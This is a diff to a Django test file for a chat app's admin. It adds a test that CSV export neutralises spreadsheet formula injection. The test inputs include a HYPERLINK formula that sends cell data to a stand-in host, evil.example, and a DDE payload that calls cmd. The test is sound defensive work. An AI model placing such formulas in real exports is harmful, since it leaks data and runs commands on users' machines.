@@ -60,9 +60,9 @@ def test_dashboard_numbers():
     exchange("Gibt es einen Parkplatz?", "unanswered")
     exchange("Parkplatz am Verein?", "unanswered")
     exchange("alt", "answered", days_ago=60)  # outside the window
-    answer = Message.objects.filter(outcome="answered").first()
-    Feedback.objects.create(message=answer, rating=Feedback.Rating.UP)
-    Feedback.objects.create(message=answer, rating=Feedback.Rating.DOWN)
+    first, second = Message.objects.filter(outcome="answered")[:2]
+    Feedback.objects.create(message=first, rating=Feedback.Rating.UP)
+    Feedback.objects.create(message=second, rating=Feedback.Rating.DOWN)
 
     data = dashboard(30)
     assert (data["questions"], data["answered"], data["unanswered"]) == (4, 2, 2)
@@ -175,3 +175,29 @@ def test_conversation_filters_and_csv_export(editor_client):
     assert lines[0].startswith("conversation,started,language,message,role")
     assert len(lines) == 5  # header + two questions + two answers
     assert "Parkplatz" in body and ",unanswered," in body
+
+
+@pytest.mark.parametrize(
+    "question",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_shows_formulas_as_text(editor_client, question):
+    import csv
+    import io
+
+    answered = exchange(question, "answered")
+    response = editor_client.post(
+        reverse("admin:chat_conversation_changelist"),
+        {"action": "export_csv", "_selected_action": [answered.conversation_id]},
+    )
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    texts = [row[6] for row in rows[1:]]
+    assert texts[0] == "'" + question  # the visitor's question, as text
+    assert texts[1] == "…"  # what needs no quoting is left as it is
